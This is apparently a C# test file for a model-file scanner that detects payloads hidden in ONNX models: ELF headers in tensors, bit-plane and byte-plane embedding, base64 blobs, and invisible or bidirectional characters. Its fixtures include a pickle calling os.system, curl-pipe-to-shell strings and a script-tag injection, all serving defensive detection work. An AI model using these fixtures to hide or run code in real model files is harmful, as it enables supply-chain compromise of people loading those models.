using System.Collections.Immutable;
using System.Text;
using ModelAudit.Facts;
using ModelAudit.Formats;
using ModelAudit.Formats.Onnx;
using ModelAudit.Samples.Building;

namespace ModelAudit.Tests.Formats.Onnx;

public sealed class OnnxContentTests
{
    private static byte[] Elf => [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3E, 0, .. new byte[44]];

    // Protocol 2: c os\nsystem\n, a string, a tuple, a call, STOP.
    private static byte[] Pickle => [0x80, 2, .. "cos\nsystem\nq\0X"u8, 4, 0, 0, 0, .. "echo"u8, (byte)'q', 1, 0x85, (byte)'q', 2, (byte)'R', (byte)'q', 3, (byte)'.'];

    [Fact]
    public void An_executable_at_the_start_of_a_tensor_is_a_payload_and_a_file_of_its_own()
    {
        InspectionContext context = OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [Elf.Length], Elf)));
        FactItem payload = Assert.Single(context.Value(OnnxFacts.Payloads));
        Assert.Equal(("elf", "tensor", "w"), (payload["format"]!.Text, payload["place"]!.Text, payload["subject"]!.Text));
        (string name, ModelAudit.Reading.ArtifactReader content) = Assert.Single(context.Children);
        Assert.Equal(payload["child"]!.Text, name);
        Assert.Equal(Elf.Length, content.Length);
    }

    [Fact]
    public void An_executable_a_little_behind_the_start_is_found_too()
    {
        byte[] data = [.. new byte[1000], .. Elf];
        FactItem payload = Assert.Single(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Value(OnnxFacts.Payloads));
        Assert.Equal(Elf.Length, payload["length"]!.Integer);
    }

    [Fact]
    public void A_pickle_is_found_in_a_string_attribute_in_metadata_and_in_an_unknown_field()
    {
        byte[] model = new OnnxBuilder().Graph(graph => graph.Node("A", "", "a", node => node.Bytes("s", Pickle)))
            .Metadata("state", "x " + Convert.ToBase64String([.. Pickle, .. new byte[120]])).Raw(writer => writer.Bytes(99, Pickle)).Build();
        ImmutableArray<FactItem> payloads = OnnxInspection.Of(model).Value(OnnxFacts.Payloads);
        Assert.Equal(["attribute", "metadata_props", "unknown-field"], payloads.Texts("place"));
        Assert.Equal(["raw", "base64", "raw"], payloads.Texts("encoding"));
        Assert.All(payloads, payload => Assert.Equal("pickle", payload["format"]!.Text));
    }

    [Fact]
    public void Weights_are_no_payload()
    {
        var random = new Random(7);
        byte[] weights = new byte[1 << 16];
        for (int i = 0; i < 50; i++)
        {
            random.NextBytes(weights);
            "MZ\u0090"u8.CopyTo(weights);
            Assert.Empty(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [weights.Length], weights))).Value(OnnxFacts.Payloads));
        }
    }

    [Theory]
    [InlineData("plain text with <angle> brackets, a | bar, caf\u00e9 and \u4e2d\u6587\r\n\t", "")]
    [InlineData("a\u202Eb", "bidirectional-control")]
    [InlineData("a\u200Bb", "invisible-character")]
    [InlineData("a\U000E0041b", "invisible-character")]
    [InlineData("a\u001B[31m", "control-character")]
    [InlineData("x <SCRIPT>alert(1)</script>", "markup")]
    [InlineData("curl example.org/x | sh", "shell")]
    [InlineData("curl example.org/x |bash -c", "shell")]
    public void Hidden_things_in_descriptions_are_told(string text, string codes)
    {
        InspectionContext context = OnnxInspection.Of(new OnnxBuilder().DocString(text).Graph(graph => graph.Node("Relu", "x", "y")).Build());
        Assert.Equal(codes, string.Join(' ', context.Value(OnnxFacts.Texts).Texts("code")));
    }

    [Theory]
    [InlineData("layer.0/attn-\u4E2D\u00E9:0", "")]
    [InlineData("h\u200B", "invisible-character")]
    [InlineData("h\u200D1", "invisible-character")]
    [InlineData("h\uFEFF", "invisible-character")]
    [InlineData("h\u00AD", "invisible-character")]
    [InlineData("h\u200F", "bidirectional-control")]
    [InlineData("h\u202E", "bidirectional-control")]
    [InlineData("h\u001B[31m", "control-character")]
    public void What_cannot_be_seen_in_names_of_nodes_values_tensors_and_operators_is_told(string name, string code)
    {
        InspectionContext[] contexts =
        [
            OnnxInspection.Of(graph => graph.Node("Relu", "x", "y", node => node.Name(name))),
            OnnxInspection.Of(graph => graph.Node("Relu", "x", name)),
            OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw(name, 2, [1], [0]))),
            OnnxInspection.Of(graph => graph.Node(name, "x", "y")),
            OnnxInspection.Of(graph => graph.Node("A", "x", "y", node => node.Bytes("s", System.Text.Encoding.UTF8.GetBytes(name)).Name(name))),
            OnnxInspection.Of(graph => graph.Input(name, 1, "1")),
        ];
        foreach (InspectionContext context in contexts)
        {
            IEnumerable<FactItem> texts = context.Value(OnnxFacts.Texts).Where(text => text["place"]!.Text == "name");
            Assert.Equal(code, string.Join(' ', texts.Select(text => text["code"]!.Text)));
            Assert.All(texts, text => Assert.Equal(name, text["subject"]!.Text));
        }
    }

    [Fact]
    public void A_value_of_an_attribute_does_not_hide_a_name_behind_it()
    {
        InspectionContext context = OnnxInspection.Of(graph => graph.Node("A", "x", "h", node => node.Bytes("s", "h\u200B"u8.ToArray())).Node("Relu", "h\u200B", "y"));
        Assert.Equal(["attribute", "name"], context.Value(OnnxFacts.Texts).Texts("place"));
    }

    [Fact]
    public void Words_of_a_vocabulary_are_no_finding()
    {
        InspectionContext context = OnnxInspection.Of(graph => graph.Node("A", "", "a", node => node.Texts("vocab", "<script", "| sh", "trojan", "\u0001")));
        Assert.Empty(context.Value(OnnxFacts.Texts));
    }

    [Fact]
    public void A_long_text_and_a_long_run_of_base64_are_told()
    {
        InspectionContext context = OnnxInspection.Of(new OnnxBuilder().Metadata("a", new string(' ', 70_000)).Metadata("b", Convert.ToBase64String(Encoding.ASCII.GetBytes(new string('x', 300)))).Graph(graph => graph.Node("Relu", "x", "y")).Build());
        Assert.Equal(["long", "base64"], context.Value(OnnxFacts.Texts).Texts("code"));
        Assert.Equal(["a", "b"], context.Value(OnnxFacts.Texts).Texts("subject"));
    }

    [Fact]
    public void Findings_of_one_kind_are_listed_up_to_a_bound_and_counted_in_a_gap()
    {
        InspectionContext context = OnnxInspection.Of(graph =>
        {
            for (int i = 0; i < 150; i++)
            {
                graph.Node("A", "", $"x{i}", node => node.Field(writer => writer.Text(6, "\u202E")));
            }
        });
        Assert.Equal(100, context.Value(OnnxFacts.Texts).Length);
        Assert.Contains(context.Gaps, gap => gap.Detail.Contains("bidirectional-control 150", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(4_096)]
    [InlineData(3 * 4_096)]
    public void A_file_at_a_step_of_4_KiB_of_a_tensor_is_found(int at)
    {
        byte[] data = [.. new byte[at], .. Elf, .. new byte[100]];
        FactItem payload = Assert.Single(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Value(OnnxFacts.Payloads));
        Assert.Equal(("elf", "tensor", "w", Elf.Length + 100L), (payload["format"]!.Text, payload["place"]!.Text, payload["subject"]!.Text, payload["length"]!.Integer));
        Assert.Null(payload["child"]);
    }

    [Theory]
    [InlineData(5, 3, 4_096)]
    [InlineData(5, 6, 4_096)]
    [InlineData(7, 7, 8_192)]
    [InlineData(11, 13, 0)]
    public void A_file_in_values_that_are_written_as_varints_is_found(int field, int dataType, int at)
    {
        int size = dataType switch { 2 or 3 => 1, 6 => 4, _ => 8 };
        byte[] data = [.. new byte[at], .. Elf, .. new byte[(100 + size - 1) / size * size]];
        long[] numbers = new long[data.Length / size];
        for (int i = 0; i < numbers.Length; i++)
        {
            numbers[i] = (long)Bits(data.AsSpan(i * size, size));
        }

        InspectionContext context = OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Empty("w", dataType, numbers.Length).Field(writer => writer.Packed(field, numbers))));
        FactItem payload = Assert.Single(context.Value(OnnxFacts.Payloads), payload => payload["format"]!.Text == "elf");
        Assert.Equal(("tensor", "w", "varint"), (payload["place"]!.Text, payload["subject"]!.Text, payload["encoding"]!.Text));
        Assert.True(context.Value(OnnxFacts.ScannedBytes) >= numbers.Length);
    }

    [Fact]
    public void A_file_at_a_step_of_the_whole_file_is_found()
    {
        byte[] model = [];
        for (int pad = 8_000; pad < 12_200 && model.Length == 0; pad++)
        {
            byte[] data = [.. new byte[pad], .. Pickle, .. new byte[200]];
            byte[] candidate = OnnxBuilder.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Build();
            model = candidate.AsSpan().IndexOf(Pickle) % 4_096 == 0 ? candidate : model;
        }

        FactItem payload = Assert.Single(OnnxInspection.Of(model).Value(OnnxFacts.Payloads));
        Assert.Equal("pickle", payload["format"]!.Text);
        Assert.Equal(0, payload["offset"]!.Integer % 4_096);
    }

    [Theory]
    [InlineData(2)]
    [InlineData(4)]
    [InlineData(8)]
    public void A_file_spread_over_the_low_bytes_of_values_is_found(int size)
    {
        byte[] data = Noise(Elf.Length * 2 * size);
        for (int i = 0; i < Elf.Length; i++)
        {
            data[i * size] = Elf[i];
        }

        FactItem payload = Assert.Single(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Value(OnnxFacts.Payloads));
        Assert.Equal(("elf", $"byte-plane-{size}"), (payload["format"]!.Text, payload["encoding"]!.Text));
    }

    [Theory]
    [InlineData(2, true)]
    [InlineData(2, false)]
    [InlineData(4, true)]
    [InlineData(4, false)]
    [InlineData(8, false)]
    public void A_file_spread_over_the_lowest_bits_of_values_is_found(int size, bool isHighFirst)
    {
        byte[] data = Noise(64 * 8 * size);
        for (int bit = 0; bit < 64 * 8; bit++)
        {
            int value = (Elf[bit / 8] >> (isHighFirst ? 7 - (bit % 8) : bit % 8)) & 1;
            data[bit * size] = (byte)((data[bit * size] & 0xFE) | value);
        }

        FactItem payload = Assert.Single(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Value(OnnxFacts.Payloads));
        Assert.Equal(("elf", $"bit-plane-{size}-{(isHighFirst ? "msb" : "lsb")}-first"), (payload["format"]!.Text, payload["encoding"]!.Text));
    }

    [Fact]
    public void A_file_is_found_wherever_the_pieces_of_hashing_cut_it()
    {
        byte[] data = [.. new byte[4_096], .. Elf, .. new byte[300]];
        byte[] model = OnnxBuilder.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Build();
        int at = model.AsSpan().IndexOf(Elf);
        for (int cut = at - 2; cut < at + 140; cut += 7)
        {
            var context = new InspectionContext(new OnnxInspector(), ModelAudit.Sources.ArtifactPath.Parse("m.onnx"), new ModelAudit.Reading.MemoryReader(model), AuditLimits.Default, CancellationToken.None);
            new OnnxInspector().Inspect(context);
            context.HashingWatch!.Value.Watch.See(0, model.AsSpan(0, cut));
            context.HashingWatch!.Value.Watch.See(cut, model.AsSpan(cut));
            context.HashingWatch!.Value.Watch.State(context);
            Assert.Equal(at, Assert.Single(context.Value(OnnxFacts.Payloads))["offset"]!.Integer);
        }
    }

    [Fact]
    public void Values_that_are_no_numbers_are_counted_for_each_tensor_and_weights_told_from_masks()
    {
        float[] weights = [1, float.NaN, 2, float.PositiveInfinity, 3, float.NegativeInfinity, float.MaxValue, .. new float[50]];
        byte[] half = [0, 0x7C, 0, 0x7B, 1, 0xFC];
        InspectionContext context = OnnxInspection.Of(graph => graph
            .Initializer(OnnxTensorBuilder.Raw("w", 1, [weights.Length], System.Runtime.InteropServices.MemoryMarshal.AsBytes<float>(weights).ToArray()))
            .Initializer(OnnxTensorBuilder.Raw("mask", 10, [3], half))
            .Initializer(OnnxTensorBuilder.Raw("whole", 1, [2], new byte[8]))
            .Node("MatMul", "x w", "y").Node("Add", "y mask", "z"));
        ImmutableArray<FactItem> items = context.Value(OnnxFacts.NonFinite);
        Assert.Equal(["w", "mask"], items.Texts("tensor"));
        Assert.Equal(["3", "2"], items.Texts("values"));
        Assert.Equal(["true", "false"], items.Texts("isFactor").Select(text => text.ToLowerInvariant()));
    }

    // The values of the table of the ONNX document on floats of 8 bits, and of the specification of microscaling formats.
    [Theory]
    [InlineData(17, 2, 0x7F, 0xFF)]
    [InlineData(18, 1, 0x80)]
    [InlineData(19, 8, 0x7C, 0x7D, 0x7E, 0x7F, 0xFC, 0xFD, 0xFE, 0xFF)]
    [InlineData(20, 1, 0x80)]
    [InlineData(24, 1, 0xFF)]
    public void Values_of_8_bits_are_no_numbers_where_their_type_says_so(int type, int count, params int[] values)
    {
        byte[] all = [.. Enumerable.Range(0, 256).Select(value => (byte)value)];
        InspectionContext context = OnnxInspection.Of(graph => graph
            .Initializer(OnnxTensorBuilder.Raw("all", type, [256], all))
            .Initializer(OnnxTensorBuilder.Raw("numbers", type, [256 - values.Length], [.. all.Where(value => !values.Contains(value))]))
            .Initializer(OnnxTensorBuilder.Empty("written", type, 256).Field(writer => writer.Packed(5, [.. all.Select(value => (long)value)]))));
        Assert.Equal([$"all {count}", $"written {count}"], context.Value(OnnxFacts.NonFinite).Select(item => $"{item["tensor"]} {item["values"]}"));
    }

    [Theory]
    [InlineData(1, 0x7CUL)]
    [InlineData(2, 0x7C00UL)]
    [InlineData(4, 0x7F80_0000UL)]
    [InlineData(8, 0x7FF0_0000_0000_0000UL)]
    public void Counting_does_not_depend_on_where_pieces_end(int size, ulong exponent)
    {
        byte[] values = Noise(size * 999);
        for (int i = 0; i < 999; i += 7)
        {
            values.AsSpan(i * size, size).Fill(0xFF);
        }

        long expected = Enumerable.Range(0, 999).Count(i => (Bits(values.AsSpan(i * size, size)) & exponent) == exponent);
        Assert.True(expected >= 143);
        foreach (int piece in new[] { 1, 3, 64, 1_000, values.Length })
        {
            var counter = new ModelAudit.Formats.Onnx.Tensors.NonFiniteCounter(size, exponent, exponent);
            for (int at = 0; at < values.Length; at += piece)
            {
                counter.Add(values.AsSpan(at, Math.Min(piece, values.Length - at)));
            }

            Assert.Equal(expected, counter.Count);
        }
    }

    private static ulong Bits(ReadOnlySpan<byte> bytes)
    {
        ulong value = 0;
        for (int i = bytes.Length - 1; i >= 0; i--)
        {
            value = (value << 8) | bytes[i];
        }

        return value;
    }

    private static byte[] Noise(int length)
    {
        byte[] bytes = new byte[length];
        new Random(11).NextBytes(bytes);
        return bytes;
    }
}
